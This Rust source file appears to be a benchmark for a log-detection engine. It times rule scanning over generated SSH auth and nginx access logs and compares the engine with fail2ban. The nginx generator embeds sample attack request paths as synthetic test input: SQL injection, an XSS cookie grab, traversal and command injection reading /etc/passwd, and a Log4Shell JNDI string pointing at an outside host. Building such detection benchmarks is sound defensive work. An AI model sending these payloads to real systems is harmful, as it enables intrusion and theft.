//! `cargo xtask bench-scan`: the scan engine with the whole built-in pack over a generated
//! 1,000,000-line OpenSSH auth log and a 1,000,000-line nginx access log, on one thread and on
//! all cores, beside a baseline that only splits lines and applies one fixed regex; the memory of
//! 1,000,000 distinct source addresses held in window state; `firebreak scan` itself (the release
//! binary, end to end, on the logs written to disk); and fail2ban-regex on the first 100,000
//! auth lines when it is installed.
//!
//! What is measured, so that the figures compare like with like:
//! - the engine figures (baseline, 1 thread, all cores) run over the log already in memory: the
//!   baseline and the scan split it into lines the same way (memchr), the baseline then applies
//!   one regex per line, twice over: reading its groups, as fail2ban applies a `failregex` to
//!   take out the host (the baseline of the one-third target: a regex applied to detect), and
//!   asking only `is_match` (a memchr for its literal on most lines: printed for reference, the
//!   floor of splitting lines and searching a literal); the scan hands each line to
//!   `Scanner::feed` (parse, every rule, windows, findings). Both ratios are printed. Neither
//!   reads a file; compiling the rules is not timed;
//! - baseline and scan run in alternating rounds (`--rounds N`, default 3) and the medians are
//!   printed with the spread, so that a noisy moment of the machine moves neither figure alone;
//! - the end-to-end figure runs the real binary on the file (process start, rule loading, reading
//!   and writing the findings as JSON included);
//! - fail2ban-regex is timed by what it reports itself (`processed in N sec`, after the Python
//!   start and filter loading), since the engine figure leaves out start-up too; its wall time is
//!   printed beside it.
//!
//! Multi-core runs split the file into one contiguous chunk per core (at line boundaries), scan
//! each with its own `Scanner` over the shared `RuleSet`, and merge findings by (rule, group):
//! counts add, first/last seen widen. A window that straddles a chunk boundary can be missed
//! (or counted twice); the server path scans a stream on one thread per source, so this split is
//! only how `scan FILE…` uses the cores on a big file. Options: `--lines N` (default 1,000,000),
//! `--only auth|nginx` (one log, no memory, end-to-end or fail2ban runs), `--keep DIR` (write the
//! two logs), `--rounds N`, `--scan-only` (only the one-thread scan, `--rounds` times: for
//! profiling).

use std::collections::HashMap;
use std::path::Path;
use std::process::{Command, Stdio};
use std::sync::Arc;
use std::time::Instant;

use anyhow::Context;
use firebreak_detect::engine::{Finding, ScanConfig, Scanner};
use firebreak_detect::pack;
use firebreak_detect::parse::Format;
use firebreak_detect::rules::RuleSet;
use jiff::Timestamp;

const NOW: &str = "2026-12-08T00:00:00Z";

pub fn run(args: &[String]) -> anyhow::Result<()> {
    if args.first().map(String::as_str) == Some("--state-child") {
        let only_brute_force = args.get(2).is_some_and(|a| a == "brute-force");
        let addresses = args.get(1).and_then(|n| n.parse().ok()).unwrap_or(1_000_000);
        return state_child(addresses, only_brute_force);
    }
    let option = |name: &str| args.iter().position(|a| a == name).and_then(|i| args.get(i + 1));
    let lines = match option("--lines") {
        Some(n) => n.parse().context("--lines needs a number")?,
        None => 1_000_000,
    };
    let rounds: usize = match option("--rounds") {
        Some(n) => n.parse::<usize>().context("--rounds needs a number")?.max(1),
        None => 3,
    };
    let only = option("--only").cloned();
    let rules = Arc::new(pack::builtin_default()?);
    let now: Timestamp = NOW.parse()?;
    let cores = std::thread::available_parallelism().map(|n| n.get()).unwrap_or(1);
    println!(
        "bench-scan: {} rules in the built-in pack, {lines} lines per log, {cores} cores; median of {rounds} alternating rounds [slowest–fastest]",
        rules.len()
    );
    println!(
        "engine figures: the log in memory, split into lines with memchr by baseline and scan alike; rule compilation and file reading not timed"
    );

    let auth = generate_auth(lines);
    let nginx = generate_nginx(lines);
    if args.iter().any(|a| a == "--scan-only") {
        // For profiling: only the one-thread scan, round after round, nothing else in the
        // process's time but the generation of the logs.
        for (name, format, text) in
            [("auth", Format::Syslog, &auth), ("nginx", Format::Access, &nginx)]
        {
            if only.as_deref().is_some_and(|o| o != name) {
                continue;
            }
            for _ in 0..rounds {
                let (rate, _, _) = scan_rate(&rules, format, text, now, 1);
                println!("{name}: scan, whole pack, 1 thread: {rate:.0} lines/s");
            }
        }
        return Ok(());
    }
    if let Some(dir) = option("--keep") {
        std::fs::write(Path::new(dir).join("auth.log"), &auth)?;
        std::fs::write(Path::new(dir).join("access.log"), &nginx)?;
        println!("wrote auth.log and access.log to {dir}");
    }
    for (name, format, text, baseline, target) in [
        (
            "OpenSSH auth log",
            Format::Syslog,
            &auth,
            r"Failed password for (?:invalid user )?(\S+) from (\S+)",
            2_000_000.0,
        ),
        (
            "nginx access log",
            Format::Access,
            &nginx,
            r#"^(\S+) \S+ \S+ \[[^\]]+\] "[A-Z]+ (\S+)[^"]*" (\d{3})"#,
            1_000_000.0,
        ),
    ] {
        if only.as_deref().is_some_and(|o| !name.to_lowercase().contains(o)) {
            continue;
        }
        println!("\n{name}: {} lines, {:.1} MB", count_lines(text), text.len() as f64 / 1e6);
        let regex = regex::bytes::Regex::new(baseline)?;
        let (mut base, mut groups) = (Vec::new(), Vec::new());
        let mut one = Vec::new();
        let mut first = None;
        for _ in 0..rounds {
            base.push(baseline_rate(text, &regex, false));
            groups.push(baseline_rate(text, &regex, true));
            let (rate, findings, stats) = scan_rate(&rules, format, text, now, 1);
            one.push(rate);
            first.get_or_insert((findings, stats));
        }
        let mut all = Vec::new();
        let mut merged = 0;
        for _ in 0..rounds {
            let (rate, findings, _) = scan_rate(&rules, format, text, now, cores);
            all.push(rate);
            merged = findings;
        }
        let (findings, stats) = first.unwrap_or_default();
        let (base, groups, one, all) =
            (Rates::of(base), Rates::of(groups), Rates::of(one), Rates::of(all));
        println!(
            "  baseline (split lines + one fixed regex, groups read): {:>10.0} lines/s  {}",
            groups.median,
            groups.spread()
        );
        println!(
            "  reference (the same regex, is_match only):             {:>10.0} lines/s  {}",
            base.median,
            base.spread()
        );
        println!(
            "  scan, whole pack, 1 thread:                            {:>10.0} lines/s  {}  ({:.2} × the baseline, {:.2} × is_match)",
            one.median,
            one.spread(),
            one.median / groups.median,
            one.median / base.median
        );
        println!(
            "  scan, whole pack, {cores} threads:                           {:>10.0} lines/s  {}  ({merged} distinct findings after merging the chunks)",
            all.median,
            all.spread()
        );
        let verdict = |ok: bool| if ok { "met" } else { "NOT met" };
        println!(
            "  targets, 1 thread: ≥ {target:.0} lines/s: {}; ≥ 1/3 of the baseline (the regex with its groups read): {} ({:.2} ×); for reference, is_match alone: {:.2} × (not the target: see ARCHITECTURE.md)",
            verdict(one.median >= target),
            verdict(one.median * 3.0 >= groups.median),
            one.median / groups.median,
            one.median / base.median
        );
        println!(
            "  1 thread: {findings} distinct (rule, group) findings; lines {} matched {} malformed {} ignored {} keys {} evicted {} refused {}",
            stats.lines,
            stats.matches,
            stats.malformed,
            stats.ignored,
            stats.keys,
            stats.keys_evicted,
            stats.keys_refused
        );
        let mut by_rule: HashMap<String, usize> = HashMap::new();
        let mut scanner = Scanner::new(Arc::clone(&rules), ScanConfig::default());
        feed_all(&mut scanner, format, text, now);
        for f in scanner.findings() {
            *by_rule.entry(f.rule_id.to_string()).or_default() += 1;
        }
        let mut by_rule: Vec<_> = by_rule.into_iter().collect();
        by_rule.sort();
        let list: Vec<String> = by_rule.iter().map(|(r, n)| format!("{r} {n}")).collect();
        println!(
            "  findings by rule (one per rule and group per suppression hour): {}",
            list.join(", ")
        );
    }
    println!(
        "\npeak memory of this process (VmHWM, both logs in memory): {}",
        vm("VmHWM").unwrap_or_else(|| "unknown".into())
    );

    if only.is_some() {
        return Ok(());
    }
    let exe = std::env::current_exe()?;
    for which in ["pack", "brute-force"] {
        let output =
            Command::new(&exe).args(["bench-scan", "--state-child", "1000000", which]).output()?;
        print!("{}", String::from_utf8_lossy(&output.stdout));
        if !output.status.success() {
            println!("state child failed: {}", String::from_utf8_lossy(&output.stderr));
        }
    }

    end_to_end(&[("auth.log", &auth), ("access.log", &nginx)], rounds)?;
    fail2ban(&auth, &rules, now, rounds)?;
    Ok(())
}

/// The median of some rates, with the slowest and fastest.
struct Rates {
    median: f64,
    low: f64,
    high: f64,
}

impl Rates {
    fn of(mut rates: Vec<f64>) -> Rates {
        rates.sort_by(f64::total_cmp);
        let at = |i: usize| rates.get(i).copied().unwrap_or(0.0);
        Rates { median: at(rates.len() / 2), low: at(0), high: at(rates.len().saturating_sub(1)) }
    }

    fn spread(&self) -> String {
        format!("[{:.2}–{:.2} M]", self.low / 1e6, self.high / 1e6)
    }
}

fn count_lines(text: &[u8]) -> usize {
    memchr::memchr_iter(b'\n', text).count()
}

/// The lines of a text (without their `\n`), as both the baseline and the scan read them.
fn lines_of(text: &[u8]) -> impl Iterator<Item = &[u8]> {
    let mut rest = text;
    std::iter::from_fn(move || {
        if rest.is_empty() {
            return None;
        }
        let (line, next) = match memchr::memchr(b'\n', rest) {
            Some(at) => (rest.get(..at)?, rest.get(at + 1..)?),
            None => (rest, &[][..]),
        };
        rest = next;
        Some(line)
    })
}

fn feed_all(scanner: &mut Scanner, format: Format, text: &[u8], now: Timestamp) {
    for line in lines_of(text) {
        if !line.is_empty() {
            scanner.feed(format, line, now);
        }
    }
}

/// Lines/s of the baseline: each line through one regex, either asked only whether it matches,
/// or, as fail2ban applies its `failregex` to take the host out, with its groups read.
fn baseline_rate(text: &[u8], regex: &regex::bytes::Regex, groups: bool) -> f64 {
    let started = Instant::now();
    let mut lines = 0u64;
    let mut hits = 0u64;
    let mut locations = regex.capture_locations();
    for line in lines_of(text) {
        lines += 1;
        let hit = if groups {
            regex.captures_read(&mut locations, line).is_some()
                && locations.get(1).is_some_and(|(start, end)| end > start)
        } else {
            regex.is_match(line)
        };
        if hit {
            hits += 1;
        }
    }
    let rate = lines as f64 / started.elapsed().as_secs_f64();
    std::hint::black_box(hits);
    rate
}

/// Lines/s of the scan, the number of findings, and (for one thread) the scanner's counts.
fn scan_rate(
    rules: &Arc<RuleSet>,
    format: Format,
    text: &[u8],
    now: Timestamp,
    threads: usize,
) -> (f64, usize, firebreak_detect::engine::ScanStats) {
    let lines = count_lines(text);
    let chunks = split_chunks(text, threads);
    let started = Instant::now();
    let results: Vec<(Vec<Finding>, firebreak_detect::engine::ScanStats)> =
        std::thread::scope(|scope| {
            let handles: Vec<_> = chunks
                .iter()
                .map(|chunk| {
                    let rules = Arc::clone(rules);
                    scope.spawn(move || {
                        let mut scanner = Scanner::new(rules, ScanConfig::default());
                        feed_all(&mut scanner, format, chunk, now);
                        let stats = scanner.stats();
                        (scanner.take_findings(), stats)
                    })
                })
                .collect();
            handles.into_iter().filter_map(|h| h.join().ok()).collect()
        });
    let elapsed = started.elapsed().as_secs_f64();
    let stats = results.first().map(|r| r.1).unwrap_or_default();
    let merged = merge(results.into_iter().map(|r| r.0).collect());
    (lines as f64 / elapsed, merged.len(), stats)
}

fn split_chunks(text: &[u8], parts: usize) -> Vec<&[u8]> {
    let mut chunks = Vec::new();
    let mut start = 0;
    for i in 1..=parts {
        let mut end = if i == parts { text.len() } else { text.len() * i / parts };
        while end < text.len() && text.get(end.wrapping_sub(1)) != Some(&b'\n') {
            end += 1;
        }
        if let Some(chunk) = text.get(start..end.max(start)) {
            chunks.push(chunk);
        }
        start = end.max(start);
    }
    chunks
}

/// Findings of several chunks as one list: same rule and group → one finding.
pub fn merge(parts: Vec<Vec<Finding>>) -> Vec<Finding> {
    let mut merged: HashMap<(String, Vec<(String, String)>), Finding> = HashMap::new();
    for finding in parts.into_iter().flatten() {
        let key = (finding.rule_id.to_string(), finding.group.clone().into_iter().collect());
        match merged.get_mut(&key) {
            Some(existing) => {
                existing.count += finding.count;
                existing.first_seen = existing.first_seen.min(finding.first_seen);
                existing.last_seen = existing.last_seen.max(finding.last_seen);
            }
            None => {
                merged.insert(key, finding);
            }
        }
    }
    merged.into_values().collect()
}

/// `firebreak scan --format json` (the release binary) on each log written to a file: lines/s
/// from process start to exit, everything included.
fn end_to_end(logs: &[(&str, &[u8])], rounds: usize) -> anyhow::Result<()> {
    let root = crate::bench_ingest::workspace_root();
    let binary = match crate::bench_ingest::build_release(&root) {
        Ok(binary) => binary,
        Err(error) => {
            println!("\nfirebreak scan end to end: skipped ({error:#})");
            return Ok(());
        }
    };
    let dir = tempfile::tempdir()?;
    println!();
    for (name, text) in logs {
        let path = dir.path().join(name);
        std::fs::write(&path, text)?;
        let mut rates = Vec::new();
        for _ in 0..rounds {
            let started = Instant::now();
            let status = Command::new(&binary)
                .args(["scan", "--format", "json", "--now", NOW])
                .arg(&path)
                .stdout(Stdio::null())
                .stderr(Stdio::null())
                .status()?;
            let elapsed = started.elapsed().as_secs_f64();
            // 1: findings (expected here), 0: none; anything else is an error.
            if !matches!(status.code(), Some(0 | 1)) {
                println!("firebreak scan {name}: failed ({status})");
                return Ok(());
            }
            rates.push(count_lines(text) as f64 / elapsed);
        }
        let rates = Rates::of(rates);
        println!(
            "firebreak scan --format json {name} (the binary, file on disk, end to end): {:>10.0} lines/s  {}",
            rates.median,
            rates.spread()
        );
    }
    Ok(())
}
fn vm(field: &str) -> Option<String> {
    let status = std::fs::read_to_string("/proc/self/status").ok()?;
    status
        .lines()
        .find(|l| l.starts_with(field))
        .map(|l| l.split_once(':').map_or(l, |(_, v)| v).trim().to_owned())
}

fn vm_kb(field: &str) -> u64 {
    vm(field).and_then(|v| v.split_whitespace().next()?.parse().ok()).unwrap_or(0)
}

/// Runs in a child process: 1,000,000 failed logins, each from its own address, all inside one
/// ten-minute window, through the whole pack; prints the resident memory they take.
fn state_child(addresses: u32, only_brute_force: bool) -> anyhow::Result<()> {
    let rules = if only_brute_force {
        let files: Vec<firebreak_detect::rules::RuleFile<'_>> = pack::FILES
            .iter()
            .filter(|(name, _)| *name == "ssh_brute_force.yml")
            .map(|(name, text)| firebreak_detect::rules::RuleFile { name, text })
            .collect();
        Arc::new(RuleSet::load(&files, &HashMap::<String, Vec<String>>::new())?)
    } else {
        Arc::new(pack::builtin_default()?)
    };
    let now: Timestamp = "2026-12-08T00:00:00Z".parse()?;
    let mut scanner = Scanner::new(rules, ScanConfig::default());
    let before = vm_kb("VmRSS");
    let mut line = String::new();
    for i in 0..addresses {
        line.clear();
        let second = i / 2000; // 500 seconds for a million lines
        let ip = std::net::Ipv4Addr::from(0x0b00_0000u32 + i);
        use std::fmt::Write;
        let _ = write!(
            line,
            "Dec  7 23:{:02}:{:02} host sshd[{}]: Failed password for root from {ip} port 22 ssh2",
            50 + second / 60 % 10,
            second % 60,
            1000 + i % 30000
        );
        scanner.feed(Format::Syslog, line.as_bytes(), now);
    }
    let after = vm_kb("VmRSS");
    let stats = scanner.stats();
    println!(
        "window state for {addresses} distinct source addresses ({}): {} keys, {:.0} MB resident ({:.0} bytes per address); peak {}",
        if only_brute_force { "ssh_brute_force alone" } else { "whole pack" },
        stats.keys,
        (after.saturating_sub(before)) as f64 / 1024.0,
        (after.saturating_sub(before)) as f64 * 1024.0 / f64::from(addresses.max(1)),
        vm("VmHWM").unwrap_or_default()
    );
    Ok(())
}

fn fail2ban(
    auth: &[u8],
    rules: &Arc<RuleSet>,
    now: Timestamp,
    rounds: usize,
) -> anyhow::Result<()> {
    let filter = "/etc/fail2ban/filter.d/sshd.conf";
    let found = Command::new("fail2ban-regex").arg("--help").output().is_ok();
    if !found || !Path::new(filter).exists() {
        println!(
            "\nfail2ban-regex: not installed (or {filter} missing): comparison skipped (Debian: apt-get install fail2ban)."
        );
        return Ok(());
    }
    let end = memchr::memchr_iter(b'\n', auth).nth(99_999).map_or(auth.len(), |i| i + 1);
    let head = auth.get(..end).unwrap_or(auth);
    let lines = count_lines(head) as f64;
    let file = tempfile::NamedTempFile::new()?;
    std::fs::write(file.path(), head)?;
    let mut theirs = Vec::new();
    let mut wall = Vec::new();
    let mut ours = Vec::new();
    for _ in 0..rounds {
        let started = Instant::now();
        let output = Command::new("fail2ban-regex").arg(file.path()).arg(filter).output()?;
        let elapsed = started.elapsed().as_secs_f64();
        if !output.status.success() {
            println!("\nfail2ban-regex failed: {}", String::from_utf8_lossy(&output.stderr));
            return Ok(());
        }
        // `[processed in 2.44 sec]`: its own time, without the interpreter's start.
        let text = String::from_utf8_lossy(&output.stdout);
        let processed = text
            .split("[processed in ")
            .nth(1)
            .and_then(|rest| rest.split(' ').next())
            .and_then(|seconds| seconds.parse::<f64>().ok())
            .filter(|seconds| *seconds > 0.0)
            .unwrap_or(elapsed);
        theirs.push(lines / processed);
        wall.push(lines / elapsed);
        ours.push(scan_rate(rules, Format::Syslog, head, now, 1).0);
    }
    let (theirs, wall, ours) = (Rates::of(theirs), Rates::of(wall), Rates::of(ours));
    println!(
        "\nfail2ban-regex (stock sshd filter) on the first {lines:.0} auth lines: {:.0} lines/s by its own `processed in` time ({:.0} lines/s wall clock, with its start-up); firebreak scan (whole pack, 1 thread, engine): {:.0} lines/s; ratio {:.0}× (median of {rounds})",
        theirs.median,
        wall.median,
        ours.median,
        ours.median / theirs.median
    );
    Ok(())
}

/// A small deterministic generator (xorshift64*).
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        self.0.wrapping_mul(0x2545_f491_4f6c_dd1d)
    }
    fn below(&mut self, n: u64) -> u64 {
        self.next() % n.max(1)
    }
}

const MONTHS: [&str; 12] =
    ["Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"];

fn stamp(second: u64) -> String {
    // Starting 2026-12-04 00:00:00 (no month change within the run).
    let day = 4 + second / 86_400;
    let s = second % 86_400;
    format!("{} {:>2} {:02}:{:02}:{:02}", MONTHS[11], day, s / 3600, s / 60 % 60, s % 60)
}

/// An OpenSSH auth log: benign logins and sessions, cron, and attacks (bursts from one address,
/// slow guessing, credential stuffing, one-off botnet tries, scanners).
pub fn generate_auth(lines: usize) -> Vec<u8> {
    use std::fmt::Write;
    let mut rng = Rng(0x5eed_0001);
    let mut out = String::with_capacity(lines * 110);
    let users =
        ["root", "admin", "ubuntu", "test", "oracle", "git", "postgres", "deploy", "alice", "bob"];
    let mut second = 0u64;
    let mut pid = 1000u64;
    let mut written = 0;
    // Addresses of ongoing bursts.
    let mut burst = (0u64, 0u32);
    while written < lines {
        second += rng.below(2);
        pid += 1;
        let t = stamp(second / 3);
        let roll = rng.below(100);
        let port = 30000 + rng.below(30000);
        let line = if roll < 30 {
            if burst.1 == 0 {
                burst = (rng.next(), 5 + rng.below(20) as u32);
            }
            burst.1 -= 1;
            let ip = ip_of(burst.0 % 5000, 45);
            let user = users[rng.below(users.len() as u64) as usize];
            if rng.below(3) == 0 {
                format!(
                    "{t} web1 sshd[{pid}]: Invalid user {user} from {ip} port {port}\n{t} web1 sshd[{pid}]: Failed password for invalid user {user} from {ip} port {port} ssh2"
                )
            } else {
                format!(
                    "{t} web1 sshd[{pid}]: Failed password for {user} from {ip} port {port} ssh2"
                )
            }
        } else if roll < 40 {
            let ip = ip_of(rng.below(200_000), 60);
            format!("{t} web1 sshd[{pid}]: Connection closed by {ip} port {port} [preauth]")
        } else if roll < 48 {
            let ip = ip_of(rng.below(200_000), 60);
            format!(
                "{t} web1 sshd[{pid}]: Received disconnect from {ip} port {port}:11: Bye Bye [preauth]"
            )
        } else if roll < 55 {
            let ip = ip_of(rng.below(50_000), 80);
            let user = format!("u{}", rng.below(100_000));
            format!("{t} web1 sshd[{pid}]: Invalid user {user} from {ip} port {port}")
        } else if roll < 63 {
            let ip = ip_of(rng.below(300), 10);
            let user = users[8 + rng.below(2) as usize];
            format!(
                "{t} web1 sshd[{pid}]: Accepted publickey for {user} from {ip} port {port} ssh2: ED25519 SHA256:k3yFingerPr1nt"
            )
        } else if roll < 73 {
            let user = users[8 + rng.below(2) as usize];
            format!(
                "{t} web1 sshd[{pid}]: pam_unix(sshd:session): session opened for user {user}(uid=1000) by (uid=0)"
            )
        } else if roll < 80 {
            let user = users[8 + rng.below(2) as usize];
            format!("{t} web1 sshd[{pid}]: pam_unix(sshd:session): session closed for user {user}")
        } else if roll < 88 {
            format!(
                "{t} web1 CRON[{pid}]: pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)"
            )
        } else if roll < 93 {
            let ip = ip_of(rng.below(100_000), 70);
            format!(
                "{t} web1 sshd[{pid}]: Disconnected from authenticating user root {ip} port {port} [preauth]"
            )
        } else if roll < 96 {
            let ip = ip_of(rng.below(100_000), 70);
            format!(
                "{t} web1 sshd[{pid}]: Connection from {ip} port {port} on 192.0.2.1 port 22 rdomain \"\""
            )
        } else if roll < 98 {
            format!(
                "{t} web1 systemd[1]: Started session-{pid}.scope - Session {pid} of User alice."
            )
        } else {
            let ip = ip_of(rng.below(5000), 45);
            format!(
                "{t} web1 sshd[{pid}]: message repeated 2 times: [ Failed password for root from {ip} port {port} ssh2]"
            )
        };
        for l in line.split('\n') {
            if written < lines {
                let _ = writeln!(out, "{l}");
                written += 1;
            }
        }
    }
    out.into_bytes()
}

fn ip_of(n: u64, first: u64) -> String {
    format!("{}.{}.{}.{}", first + n / 16_777_216 % 100, n / 65_536 % 256, n / 256 % 256, n % 256)
}

/// An nginx access log: pages, assets and API calls from many clients, 401/403 bursts, scanners,
/// injection and traversal probes, `/.env` and `/.git/config` probes, and 5xx episodes.
pub fn generate_nginx(lines: usize) -> Vec<u8> {
    use std::fmt::Write;
    let mut rng = Rng(0x5eed_0002);
    let mut out = String::with_capacity(lines * 190);
    let agents = [
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36",
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15",
        "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
        "okhttp/4.12.0",
    ];
    let pages = [
        "/",
        "/index.html",
        "/products",
        "/products?id=42&sort=price",
        "/blog/2026/12/release-notes",
        "/static/app.3f9c.js",
        "/static/site.css",
        "/img/logo.png",
        "/api/v1/items",
        "/api/v1/orders?page=2",
        "/login",
        "/account",
    ];
    let attacks = [
        "/products?id=1%20UNION%20SELECT%20password%20FROM%20users--",
        "/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
        "/download?file=../../../../etc/passwd",
        "/.env",
        "/.git/config",
        "/cgi-bin/ping?host=127.0.0.1;cat%20/etc/passwd",
        "/wp-config.php.bak",
        "/?x=${jndi:ldap://198.51.100.9/a}",
    ];
    let mut second = 0u64;
    for _ in 0..lines {
        second += rng.below(2);
        let s = second / 12;
        let t = format!(
            "{:02}/Dec/2026:{:02}:{:02}:{:02} +0000",
            4 + s / 86_400,
            s / 3600 % 24,
            s / 60 % 60,
            s % 60
        );
        let roll = rng.below(1000);
        // Episodes: an hourly 401 burst from one address, a two-hourly API spike from one
        // client, and a minute of 502s every three hours.
        let episode = rng.below(100);
        let (ip, method, path, status, agent) = if (600..660).contains(&(s % 3600)) && episode < 30
        {
            (
                ip_of(s / 3600 % 50, 130),
                "POST",
                "/api/v1/login".to_owned(),
                401,
                agents[3].to_owned(),
            )
        } else if (3000..3060).contains(&(s % 7200)) && episode < 50 {
            (
                ip_of(s / 7200, 140),
                "GET",
                "/api/v1/items?page=1".to_owned(),
                200,
                agents[3].to_owned(),
            )
        } else if (1200..1260).contains(&(s % 10_800)) && episode < 40 {
            (ip_of(rng.below(50_000), 81), "GET", "/products".to_owned(), 502, agents[1].to_owned())
        } else if roll < 900 {
            let page = pages[rng.below(pages.len() as u64) as usize];
            let status = if rng.below(200) == 0 { 404 } else { 200 };
            (
                ip_of(rng.below(50_000), 81),
                "GET",
                page.to_owned(),
                status,
                agents[rng.below(4) as usize].to_owned(),
            )
        } else if roll < 940 {
            (
                ip_of(rng.below(200), 100),
                "POST",
                "/api/v1/login".to_owned(),
                401,
                agents[3].to_owned(),
            )
        } else if roll < 960 {
            (
                ip_of(rng.below(500), 110),
                "GET",
                attacks[rng.below(attacks.len() as u64) as usize].to_owned(),
                404,
                agents[2].to_owned(),
            )
        } else if roll < 975 {
            (
                ip_of(rng.below(50), 120),
                "GET",
                format!("/admin/{}", rng.below(1000)),
                403,
                "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None)".to_owned(),
            )
        } else if roll < 985 {
            (
                ip_of(rng.below(50), 121),
                "GET",
                "/".to_owned(),
                200,
                "sqlmap/1.8#stable (https://sqlmap.org)".to_owned(),
            )
        } else {
            let status = if s % 3600 < 120 { 502 } else { 200 };
            (
                ip_of(rng.below(5000), 82),
                "POST",
                "/api/v1/checkout".to_owned(),
                status,
                agents[0].to_owned(),
            )
        };
        let bytes = 200 + rng.below(40_000);
        let _ = writeln!(
            out,
            "{ip} - - [{t}] \"{method} {path} HTTP/1.1\" {status} {bytes} \"-\" \"{agent}\""
        );
    }
    out.into_bytes()
}
